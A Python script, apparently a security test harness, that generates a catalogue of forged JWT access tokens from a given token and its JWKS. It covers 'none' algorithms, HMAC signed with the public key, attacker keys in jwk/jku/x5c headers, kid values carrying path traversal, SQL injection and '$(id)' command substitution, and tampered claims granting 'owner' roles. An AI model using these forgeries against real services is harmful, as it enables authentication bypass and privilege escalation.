"""Forges access tokens with what two libraries of PyPI, jwcrypto and PyJWT, will make: reads
`{"token": ..., "jwks": ...}`, prints a list of `{"name": ..., "token": ...}`."""

import base64
import hashlib
import hmac
import json
import sys
import time

import jwt
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
from jwcrypto import jwe, jwk, jws

SAFE = ["EdDSA", "ES256", "PS256", "RS256", "HS256", "HS384", "HS512"]
forged = []


def add(name, token):
    forged.append({"name": name, "token": token})


def text(value):
    return base64.urlsafe_b64encode(value).rstrip(b"=").decode()


def sign(payload, key, header):
    """A token that this key signed: rightly, if it were ours."""
    signed = jws.JWS(payload)
    signed.allowed_algs = SAFE
    signed.add_signature(key, header["alg"], json.dumps(header))
    return signed.serialize(compact=True)


def secret(value):
    return jwk.JWK(kty="oct", k=text(value))


asked = json.load(sys.stdin)
token = asked["token"]
ours = asked["jwks"]["keys"][0]
parts = token.split(".")
payload = base64.urlsafe_b64decode(parts[1] + "==")
claims = json.loads(payload)
header = jwt.get_unverified_header(token)
kid = header["kid"]
public = jwt.PyJWK(ours).key
raw = base64.urlsafe_b64decode(ours["x"] + "=")

# No signature (RFC 8725 section 2.1).
add("none", jwt.encode(claims, None, algorithm="none", headers={"kid": kid, "typ": "at+jwt"}))
for spelled in ["none", "None", "NONE", "nOnE", "none ", "", None, 0, False, ["EdDSA"], {}]:
    bare = text(json.dumps({**header, "alg": spelled}).encode())
    for signature in ["", parts[2]]:
        add(f"alg {spelled!r} {signature[:4]}", f"{bare}.{parts[1]}.{signature}")
absent = text(json.dumps({"typ": "at+jwt", "kid": kid}).encode())
add("alg absent", f"{absent}.{parts[1]}.{parts[2]}")

# Our public key as the secret of a MAC.
spki = public.public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo)
pem = public.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
secrets = {
    "its bytes": raw,
    "its text": ours["x"].encode(),
    "DER": spki,
    "PEM": pem,
    "PEM without its end": pem.strip(),
    "JWK": json.dumps(ours).encode(),
    "JWK without spaces": json.dumps(ours, separators=(",", ":")).encode(),
    "its name": kid.encode(),
    "32 zeros": bytes(32),
}
for name, value in secrets.items():
    for algorithm, digest in [("HS256", "sha256"), ("HS384", "sha384"), ("HS512", "sha512")]:
        if len(value) >= hashlib.new(digest).digest_size:
            signed = sign(payload, secret(value), {**header, "alg": algorithm})
            add(f"{algorithm} with {name}", signed)
        # The same under our own header, for who reads no algorithm.
        tag = hmac.new(value, f"{parts[0]}.{parts[1]}".encode(), digest).digest()
        add(f"a tag of {algorithm} with {name}", f"{parts[0]}.{parts[1]}.{text(tag)}")
        add(f"a long tag of {algorithm} with {name}", f"{parts[0]}.{parts[1]}.{text((tag * 2)[:64])}")

# Keys of a stranger.
strangers = {
    "EdDSA": jwk.JWK.generate(kty="OKP", crv="Ed25519"),
    "ES256": jwk.JWK.generate(kty="EC", crv="P-256"),
    "RS256": jwk.JWK.generate(kty="RSA", size=2048),
    "PS256": jwk.JWK.generate(kty="RSA", size=2048),
}
now = int(time.time())
for algorithm, key in strangers.items():
    theirs = key.export_public(as_dict=True)
    set_of_theirs = "https://localhost/jwks.json"
    for name, extra in {
        "our name": {},
        "their name": {"kid": key.thumbprint()},
        "no name": {"kid": None},
        "jwk": {"jwk": theirs},
        "jwk with our name": {"jwk": {**theirs, "kid": kid}},
        "jku": {"jku": set_of_theirs, "kid": key.thumbprint()},
        "x5u": {"x5u": "https://localhost/chain.pem"},
        "x5c": {"x5c": [base64.b64encode(spki).decode()]},
        "x5t": {"x5t": text(hashlib.sha1(spki).digest())},
        "cty": {"cty": "JWT"},
        "typ": {"typ": "JWT"},
        "no typ": {"typ": None},
    }.items():
        made = {**header, "alg": algorithm, **extra}
        made = {key: value for key, value in made.items() if value is not None}
        add(f"{algorithm} {name}", sign(payload, key, made))
    for path in ["../../../../dev/null", "/dev/null", "' UNION SELECT 'a'--", "$(id)", "\u0000", kid + " "]:
        add(f"{algorithm} kid {path!r}", sign(payload, key, {**header, "alg": algorithm, "kid": path}))
    for name, edit in {
        "exp in 2100": {"exp": 4_102_444_800},
        "exp as text": {"exp": "4102444800"},
        "exp as a fraction": {"exp": 4_102_444_800.5},
        "exp below zero": {"exp": -1},
        "exp beyond every integer": {"exp": 10**40},
        "no exp": {"exp": None},
        "nbf in 2100": {"nbf": 4_102_444_800},
        "iat before 1970": {"iat": -(10**12)},
        "iat now, as another session": {"iat": now, "sid": "ses_00000000000000000000000000"},
        "somebody else": {"sub": "usr_00000000000000000000000000"},
        "everybody": {"sub": "*"},
        "another organization": {"org": "org_00000000000000000000000000"},
        "more methods": {"amr": ["pwd", "otp", "hwk", "mfa"]},
        "an audience too many": {"aud": [claims["aud"], "somebody else"]},
        "roles": {"roles": ["owner"], "permissions": ["*"]},
    }.items():
        edited = {**claims, **edit}
        edited = {key: value for key, value in edited.items() if value is not None}
        edited = json.dumps(edited).encode()
        add(f"{algorithm} {name}", sign(edited, key, {**header, "alg": algorithm}))
        if algorithm == "EdDSA":
            add(f"{name}, our signature", f"{parts[0]}.{text(edited)}.{parts[2]}")

# Extensions (RFC 7515 section 4.1.11, RFC 7797), and our signature under another header.
for name, extra in {
    "crit of nothing": {"crit": []},
    "crit unknown": {"crit": ["exp"], "exp": 0},
    "b64 off": {"b64": False, "crit": ["b64"]},
    "b64 off without crit": {"b64": False},
    "zip": {"zip": "DEF"},
    "jwk ours": {"jwk": ours},
    "an order of our own": {"kid": kid, "typ": "at+jwt", "alg": "EdDSA"},
}.items():
    bent = text(json.dumps({**extra, **header} if name.startswith("an") else {**header, **extra}).encode())
    add(f"{name}, our signature", f"{bent}.{parts[1]}.{parts[2]}")
twice = json.dumps(header)[:-1] + ', "alg": "none"}'
add("alg twice", f"{text(twice.encode())}.{parts[1]}.")

# Other shapes of what is right.
add("flattened JSON", json.dumps({"protected": parts[0], "payload": parts[1], "signature": parts[2]}))
add("detached", f"{parts[0]}..{parts[2]}")
add("nested", sign(token.encode(), strangers["EdDSA"], {**header, "cty": "JWT"}))
add("padded", f"{parts[0]}.{parts[1]}.{parts[2]}==")
add("standard base64", f"{parts[0]}.{parts[1]}.{parts[2].replace('-', '+').replace('_', '/')}=")
add("a signature of another length", f"{parts[0]}.{parts[1]}.{parts[2]}AAAA")
add("no signature", f"{parts[0]}.{parts[1]}.")
add("a signature of zeros", f"{parts[0]}.{parts[1]}.{text(bytes(64))}")
add("two in one", f"{token}.{token}")
sealed = jwe.JWE(token.encode(), json.dumps({"alg": "dir", "enc": "A256GCM", "cty": "JWT"}))
sealed.add_recipient(secret(raw))
add("encrypted", sealed.serialize(compact=True))
for length in [4_097, 8_000]:
    long = {**claims, "jti": "x" * length}
    add(f"{length} bytes and more", sign(json.dumps(long).encode(), strangers["EdDSA"], header))

print(json.dumps(forged))
